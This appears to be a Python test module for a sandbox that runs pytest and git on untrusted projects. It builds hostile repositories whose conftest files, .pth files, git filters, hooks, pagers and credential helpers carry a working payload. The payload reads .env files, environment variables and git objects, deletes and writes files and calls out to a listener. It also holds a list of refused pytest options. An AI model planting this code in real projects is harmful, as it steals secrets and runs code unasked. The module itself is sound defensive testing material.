"""Planted-code attacks: projects whose own files or config try to make a command run code.

Each hostile project is a small git repository under ``<base>/hostile/<name>``, holding
its own ``.env`` canary and a committed secret. The planted code is :data:`PAYLOAD`: it
prints every secret it can reach (the project's ``.env``, a file outside, the parent's
README, the committed secret through git and through ``.git/objects``, the process
environment), then tries to write outside (``<base>/markers``), write and rename and
delete inside, reach the network (a listener the harness owns) and leave a process
behind that writes later. Git drivers (filters, textconv, external diff, fsmonitor,
pagers, gpg, hooks...) print the exec canary and create a marker when they run.

A case passes when the output and trace hold no canary, no marker exists, the listener got
no connection and the project is unchanged (:func:`check_effects`). Pytest cases are
``ok`` in the isolated mode (the code runs, confined) and ``needs-isolation`` without it.
"""

from __future__ import annotations

import os
import socket
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path

CANARY = "CANARY-"
_EXEC_PRINTF = "printf 'CAN\\101RY-EXEC' >&2"
"""Prints the exec canary; the config text itself never spells it."""

PAYLOAD = '''
import os, socket, subprocess, sys, zlib
def _pse_attack(tag):
    here = {here!r}
    seen = []
    for path in (here + "/.env", {outside!r}, {parent!r}, "/proc/1/environ"):
        try:
            seen.append(open(path, errors="replace").read())
        except OSError as exc:
            seen.append(type(exc).__name__)
    seen.append(repr(sorted(os.environ.items())))
    try:
        seen.append(subprocess.run(["git", "-C", here, "show", "HEAD:.env"],
                                   capture_output=True, text=True).stdout)
    except OSError as exc:
        seen.append(type(exc).__name__)
    for top, _, names in os.walk(here + "/.git/objects"):
        for name in names:
            try:
                seen.append(zlib.decompress(open(os.path.join(top, name), "rb").read())
                            .decode("latin-1"))
            except Exception:
                pass
    print("PAYLOAD", tag, seen)
    for path in ({markers!r} + "/" + tag, "/tmp/pse-pwned-" + tag, here + "/PWNED"):
        try:
            open(path, "w").close()
        except OSError:
            pass
    for act in (lambda: os.rename(here + "/README.md", here + "/MOVED.md"),
                lambda: os.unlink(here + "/src/app.py"), lambda: os.mkdir(here + "/made"),
                lambda: os.chmod(here + "/README.md", 0o777)):
        try:
            act()
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"PWNED")
    except OSError:
        pass
    try:
        subprocess.Popen(["sh", "-c", "sleep 3; touch " + {markers!r} + "/late-" + tag],
                         start_new_session=True)
    except OSError:
        pass
_pse_attack({tag!r})
'''


def payload(tag: str, *, here: Path, base: Path, port: int) -> str:
    """The planted Python code, for the project ``here``, reporting as ``tag``."""
    return PAYLOAD.format(here=str(here), outside=str(base / "outside" / "secret.txt"),
                          parent=str(base / "README.md"), markers=str(base / "markers"),
                          port=port, tag=tag)


def driver(tag: str, base: Path, *, tail: str = "cat") -> str:
    """A git driver command line that shows it ran (exec canary, marker) then ``tail``."""
    return f"{_EXEC_PRINTF}; touch {base}/markers/{tag}; {tail}"


def listen() -> socket.socket:
    """A TCP listener on the host's loopback: a connection means the network was reached."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    return server


def connections(server: socket.socket) -> int:
    """How many connections reached ``server`` so far (accepting and closing them)."""
    count = 0
    while True:
        try:
            conn, _ = server.accept()
        except (BlockingIOError, OSError):
            return count
        conn.close()
        count += 1


def snapshot(root: Path) -> frozenset[tuple[str, int, int, int]]:
    """Every entry under ``root`` with mode, size and mtime: any change shows."""
    entries = set()
    for top, dirs, names in os.walk(root):
        for name in [*dirs, *names]:
            path = Path(top) / name
            info = os.lstat(path)
            entries.add((str(path.relative_to(root)), info.st_mode, info.st_size,
                         info.st_mtime_ns))
    return frozenset(entries)


def git(root: Path, *args: str, env: Mapping[str, str] | None = None) -> str:
    """Run git in ``root`` with a throw-away identity; its stdout."""
    argv = ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@example.com",
            "-c", "commit.gpgsign=false", *args]
    return subprocess.run(argv, capture_output=True, text=True, check=True,
                          env={**os.environ, **(env or {})}).stdout


def make_project(root: Path, files: Mapping[str, str], *, secret: str) -> None:
    """A git repository with ``files`` committed, a committed ``.env`` and a dirty file.

    The planted files are committed too (as in a repository one clones), then
    ``tracked.txt`` is modified (same size, other mtime) so that ``git status``/``diff``
    must hash the work tree (which is when clean filters run).
    """
    base_files = {"README.md": "# hostile\n", "src/app.py": "X = 1\n",
                  "tracked.txt": "one\n", ".env": f"TOKEN={secret}\n"}
    for name, text in {**base_files, **files}.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "hostile")
    (root / "tracked.txt").write_text("uno\n", encoding="utf-8")  # same size: git must hash
    os.utime(root / "tracked.txt", ns=(1, 1))


def secret_for(name: str) -> str:
    """The canary a hostile project's ``.env`` holds."""
    return f"{CANARY}HOSTILE-{name.upper()}-7Q2X"


def configure(root: Path, pairs: Mapping[str, str]) -> None:
    """Append config sections (``"\tkey = value"`` lines) to the project's ``.git/config``.

    Written as text, not with ``git config``, so that section names may hold any driver
    name; values are quoted the way git reads them back.
    """
    with open(root / ".git" / "config", "a", encoding="utf-8") as handle:
        for section, body in pairs.items():
            handle.write(f"[{section}]\n")
            for line in body.splitlines():
                key, _, value = line.strip().partition(" = ")
                handle.write(f"\t{key} = {quote(value)}\n")


def quote(value: str) -> str:
    """``value`` as a double-quoted git config value."""
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def pytest_projects(base: Path, port: int) -> Iterator[tuple[str, dict[str, str]]]:
    """(name, files) of the projects whose files make pytest collection run code."""
    hostile = base / "hostile"

    def code(name: str) -> str:
        return payload(name, here=hostile / name, base=base, port=port)

    plugin = {"evilplugin.py": code("plugin")}
    test = "def test_ok():\n    pass\n"
    yield "conftest", {"conftest.py": code("conftest"), "tests/test_a.py": test}
    yield "conftest-deep", {"tests/unit/conftest.py": code("conftest-deep"),
                            "tests/unit/test_a.py": test}
    yield "test-module", {"tests/test_evil.py": code("test-module") + test}
    yield "init", {"tests/__init__.py": code("init"), "tests/test_a.py": test}
    yield "package-import", {"pkg/__init__.py": code("package-import"),
                             "tests/test_a.py": "import pkg\n" + test}
    for name, (ini, text) in {
        "addopts-pyproject": ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = '
                              '"-p evilplugin"\n'),
        "addopts-pytest-ini": ("pytest.ini", "[pytest]\naddopts = -p evilplugin\n"),
        "addopts-tox-ini": ("tox.ini", "[pytest]\naddopts = -p evilplugin\n"),
        "addopts-setup-cfg": ("setup.cfg", "[tool:pytest]\naddopts = -p evilplugin\n"),
        "required-plugins": ("pytest.ini", "[pytest]\naddopts = -pevilplugin\n"
                             "required_plugins = evilplugin\n"),
    }.items():
        yield name, {ini: text, **{k: v.replace("'plugin'", repr(name))
                                   for k, v in plugin.items()}, "tests/test_a.py": test}
    yield "pythonpath-ini", {"pytest.ini": "[pytest]\npythonpath = vendor\naddopts = -p "
                             "vendored\n", "vendor/vendored.py": code("pythonpath-ini"),
                             "tests/test_a.py": test}
    yield "sitecustomize", {"sitecustomize.py": code("sitecustomize"),
                            "usercustomize.py": code("usercustomize"),
                            "tests/test_a.py": test}
    yield "pth-file", {"evil.pth": "import os; " + code("pth-file").replace("\n", "; "),
                       "pytest.ini": "[pytest]\npythonpath = .\n", "tests/test_a.py": test}
    yield "confcutdir", {"pytest.ini": "[pytest]\nconfcutdir = /\n",
                         "tests/test_a.py": test}
    yield "conftest-symlink", {"tests/test_a.py": test}
    yield "shadow-pytest", {"pytest.py": code("shadow-pytest"), "tests/test_a.py": test}
    yield "shadow-dependency", {"iniconfig.py": code("shadow-dependency"),
                                "pluggy/__init__.py": code("shadow-dependency-pkg"),
                                "tests/test_a.py": test}
    yield "pytest-plugins-var", {"conftest.py": "pytest_plugins = ['evilplugin']\n",
                                 "evilplugin.py": code("pytest-plugins-var"),
                                 "tests/test_a.py": test}


def git_projects(base: Path) -> Iterator[tuple[str, dict[str, str], dict[str, str]]]:
    """(name, files, raw .git/config sections) of projects whose git config runs code."""
    outside = base / "outside"
    hooks = {f".hooks/{hook}": f"#!/bin/sh\n{driver('hook-' + hook, base, tail='true')}\n"
             for hook in ("post-index-change", "post-checkout", "pre-auto-gc",
                          "reference-transaction", "fsmonitor-watchman")}
    yield "git-filter-clean", {".gitattributes": "* filter=evil\n"}, {
        'filter "evil"': f"\tclean = {driver('filter-clean', base)}\n"
                         f"\tsmudge = {driver('filter-smudge', base)}"}
    yield "git-filter-process", {".gitattributes": "*.txt filter=evil\n"}, {
        'filter "evil"': f"\tprocess = {driver('filter-process', base)}\n\trequired = true"}
    yield "git-filter-odd-name", {".gitattributes": "*.txt filter=a=b.c\n"}, {
        'filter "a=b.c"': f"\tclean = {driver('filter-odd', base)}\n\trequired = true"}
    yield "git-textconv", {".gitattributes": "*.txt diff=evil\n*.py diff=evil\n"}, {
        'diff "evil"': f"\ttextconv = {driver('textconv', base)}\n"
                       f"\tcommand = {driver('diff-command', base)}"}
    yield "git-diff-external", {}, {"diff": f"\texternal = {driver('diff-external', base)}"}
    monitor = f"#!/bin/sh\n{driver('fsmonitor', base, tail='true')}\n"
    yield "git-fsmonitor", {".hooks/fsmon": monitor}, {
        "core": "\tfsmonitor = .hooks/fsmon\n\tfsmonitorHookVersion = 1"}
    yield "git-fsmonitor-shell", {}, {"core": f"\tfsmonitor = {driver('fsmonitor-sh', base)}"}
    yield "git-hooks", hooks, {"core": "\thooksPath = .hooks"}
    yield "git-pager", {}, {"core": f"\tpager = {driver('core-pager', base)}",
                            "pager": f"\tlog = {driver('pager-log', base)}\n"
                                     f"\tstatus = {driver('pager-status', base)}\n"
                                     f"\tdiff = {driver('pager-diff', base)}"}
    yield "git-gpg", {".hooks/gpg": f"#!/bin/sh\n{driver('gpg', base, tail='true')}\n"}, {
        "gpg": "\tprogram = .hooks/gpg", 'gpg "ssh"': "\tprogram = .hooks/gpg",
        "log": "\tshowSignature = true"}
    yield "git-include", {"evil.gitconfig": f'[filter "evil"]\n\tclean = '
                          f"{quote(driver('include', base))}\n",
                          ".gitattributes": "* filter=evil\n"}, {
        "include": "\tpath = ../evil.gitconfig"}
    yield "git-includeif", {"evil.gitconfig": f'[diff "evil"]\n\ttextconv = '
                            f"{quote(driver('includeif', base))}\n",
                            ".gitattributes": "* diff=evil\n"}, {
        'includeIf "gitdir:/"': "\tpath = ../evil.gitconfig"}
    yield "git-include-outside", {".gitattributes": "* filter=evil\n"}, {
        "include": f"\tpath = {outside}/evil.gitconfig"}
    yield "git-attributes-file", {}, {"core": f"\tattributesFile = {outside}/attributes",
                                      'filter "evil"': f"\tclean = {driver('attrfile', base)}"}
    yield "git-worktree-outside", {}, {"core": f"\tworktree = {outside}"}
    yield "git-mailmap-outside", {}, {"mailmap": f"\tfile = {outside}/mailmap"}
    yield "git-network-keys", {}, {
        "core": f"\tsshCommand = {driver('ssh', base)}\n\taskPass = {driver('askpass', base)}",
        "credential": f"\thelper = !{driver('credential', base)}",
        'remote "origin"': f"\turl = ssh://example.invalid/x\n"
                           f"\tuploadpack = {driver('uploadpack', base)}"}
    yield "git-symlinks-out", {}, {}


GIT_READS: tuple[tuple[str, ...], ...] = (
    ("status",), ("status", "-v", "-v"), ("status", "--porcelain", "--ignored"), ("diff",),
    ("diff", "HEAD"), ("diff", "--cached"), ("diff", "--stat", "HEAD~0"),
    ("blame", "tracked.txt"), ("log", "-p"), ("log", "--show-signature", "-1"),
    ("log", "-1", "--format=%G? %aN %s"), ("show", "HEAD"), ("grep", "-n", "one"),
    ("grep", "-n", "CANARY"), ("ls-files", "-m", "-o"),
)
"""Read-only git commands every hostile repository gets (those of the issue first)."""


def build_hostile(base: Path, port: int) -> dict[str, Path]:
    """Create every hostile project under ``base/hostile``; name -> root."""
    (base / "markers").mkdir()
    outside = base / "outside"
    (outside / "evil.gitconfig").write_text(
        f'[filter "evil"]\n\tclean = {quote(driver("include-outside", base))}\n')
    (outside / "attributes").write_text("* filter=evil\n")
    (outside / "mailmap").write_text(f"{CANARY}MAILMAP-7Q2X <m@example.com> "
                                     "<t@example.com>\n")
    (outside / "evil_conftest.py").write_text(payload(
        "conftest-symlink", here=base / "hostile" / "conftest-symlink", base=base, port=port))
    (base / "hostile").mkdir()
    (base / "hostile" / "conftest.py").write_text(payload(
        "confcutdir", here=base / "hostile" / "confcutdir", base=base, port=port))
    roots: dict[str, Path] = {}
    for name, files in pytest_projects(base, port):
        roots[name] = _hostile(base, name, files, {})
    for name, files, config in git_projects(base):
        roots[name] = _hostile(base, name, files, config)
    _finish_special(base, roots)
    return roots


def _hostile(base: Path, name: str, files: Mapping[str, str],
             config: Mapping[str, str]) -> Path:
    root = base / "hostile" / name
    make_project(root, files, secret=secret_for(name))
    for path in root.glob(".hooks/*"):
        path.chmod(0o755)
    configure(root, config)
    return root


def _finish_special(base: Path, roots: dict[str, Path]) -> None:
    """The attacks that need more than files and config: links, signatures, outside repos."""
    outside = base / "outside"
    os.symlink(outside / "evil_conftest.py", roots["conftest-symlink"] / "conftest.py")
    os.symlink(outside, roots["conftest-symlink"] / "tests" / "ext")
    links = roots["git-symlinks-out"]
    os.symlink(outside / "secret.txt", links / "link_secret")
    os.symlink("../../outside", links / "link_dir")
    git(links, "add", "-A")
    git(links, "commit", "-qm", "links")
    _signed_commit(roots["git-gpg"])
    repo = outside / "repo"
    make_project(repo, {"leak.txt": f"{CANARY}OUTSIDEREPO-7Q2X\n"}, secret="x")
    for name, how in (("git-dotgit-file", "file"), ("git-dotgit-symlink", "symlink")):
        root = base / "hostile" / name
        root.mkdir()
        (root / "README.md").write_text("# pointer\n")
        if how == "file":
            (root / ".git").write_text(f"gitdir: {repo / '.git'}\n")
        else:
            os.symlink(repo / ".git", root / ".git")
        roots[name] = root


def _signed_commit(root: Path) -> None:
    """A commit carrying a (fake) signature, so that verifying it calls gpg.program."""
    head = git(root, "cat-file", "commit", "HEAD")
    header, _, message = head.partition("\n\n")
    signature = ("gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n"
                 " -----END PGP SIGNATURE-----")
    text = f"{header}\n{signature}\n\n{message}"
    done = subprocess.run(["git", "-C", str(root), "hash-object", "-t", "commit", "-w",
                           "--stdin"], input=text, capture_output=True, text=True, check=True)
    git(root, "update-ref", "HEAD", done.stdout.strip())


def canaries(roots: Mapping[str, Path]) -> tuple[str, ...]:
    """Every token the hostile projects and their outside files hold."""
    return (*(secret_for(name) for name in roots), f"{CANARY}MAILMAP-7Q2X",
            f"{CANARY}OUTSIDEREPO-7Q2X")


_PYTEST = ("python", "-m", "pytest", "--co", "-q")
_REFUSED_PYTEST_OPTIONS: tuple[tuple[str, ...], ...] = (
    ("-p", "evilplugin"), ("-pevilplugin",), ("--plugin=evilplugin",),
    ("-o", "addopts=-p evilplugin"), ("--override-ini=pythonpath=vendor",),
    ("--confcutdir=/",), ("--rootdir=..",), ("-c", "../outside/pytest.ini"),
    ("--import-mode=importlib",), ("--pyargs", "os"), ("--basetemp=/tmp/x",),
    ("--junitxml=/tmp/x.xml",), ("--debug=/tmp/log",), ("-W", "error"),
)


def cases(case: type) -> Iterator[object]:
    """The planted-code cases, built with the corpus's ``Case`` class."""
    for name in (n for n, _ in pytest_projects(Path("/"), 0)):
        yield case(f"planted-pytest-{name}", "planted-pytest", "run_command",
                   {"argv": list(_PYTEST)}, "ok", project=name, fallback="needs-isolation",
                   shell="python -m pytest --co -q")
        yield case(f"planted-pytest-{name}-path", "planted-pytest", "run_command",
                   {"argv": [*_PYTEST, "tests"]}, "ok", project=name,
                   fallback="needs-isolation", shell="python -m pytest --co -q tests")
    for index, options in enumerate(_REFUSED_PYTEST_OPTIONS):
        yield case(f"planted-pytest-option-{index}", "planted-pytest", "run_command",
                   {"argv": [*_PYTEST, *options]}, "not-allowed", project="conftest",
                   shell=" ".join([*_PYTEST, *options]))
    for name, _, _ in git_projects(Path("/")):
        # git never reads the repository's config (pse's view has its own), so an include
        # pointing outside is not refused any more: it is not read, in either mode.
        expect, fallback = "ok", None
        for argv in GIT_READS:
            yield case(f"planted-{name}-{'-'.join(a.strip('-') for a in argv)}",
                       "planted-git", "run_command", {"argv": ["git", *argv]}, expect,
                       project=name, fallback=fallback, shell=" ".join(["git", *argv]))
    for name in ("git-dotgit-file", "git-dotgit-symlink"):
        for argv in (("log", "-p"), ("status",), ("grep", "CANARY")):
            yield case(f"planted-{name}-{argv[0]}", "planted-git", "run_command",
                       {"argv": ["git", *argv]}, "not-allowed", project=name,
                       shell=" ".join(["git", *argv]))
